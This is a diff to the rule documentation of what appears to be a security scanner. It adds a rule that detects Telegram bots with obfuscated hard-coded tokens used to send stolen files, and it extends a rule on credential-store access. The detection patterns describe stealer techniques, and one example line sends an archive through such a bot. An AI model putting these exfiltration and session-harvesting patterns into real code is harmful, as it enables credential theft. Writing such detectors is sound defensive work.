@@ -119,6 +119,16 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).',
   },
   {
+    id: 'hardcoded-bot-channel',
+    name: "The author's bot channel",
+    family: 'secrets',
+    severity: 'high',
+    catches:
+      "A Telegram bot client (python-telegram-bot, pyTelegramBotAPI, aiogram) built with a token written into the package, however it is disguised (folded from chr() codes, joined pieces, decoded constants), that sends messages or files: the author's own channel, the way stealers deliver what they take. Critical in code that runs at install, start-up or import.",
+    example: 'Bot(token=d([55, 54, 52, ...])).send_document(chat_id=CHAT, document=archive)',
+    falsePositives: "Private bots whose owner publishes their own token (the token is then everyone's).",
+  },
+  {
     id: 'hardcoded-secret',
     name: 'Hard-coded credential',
     family: 'secrets',
@@ -365,7 +375,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'low',
     catches:
-      'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history).',
+      'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history); medium for a function that searches folders (os.walk, listdir, glob) for Telegram session files (*.session). With a network call anywhere in the target, a store only another program uses (browsers, chat tokens and sessions, wallets) joins into credential theft (high).',
     example: 'open(os.path.expanduser("~/.aws/credentials"))',
     falsePositives: "SDKs and tools that read their own configuration (botocore, requests' .netrc support).",
   },
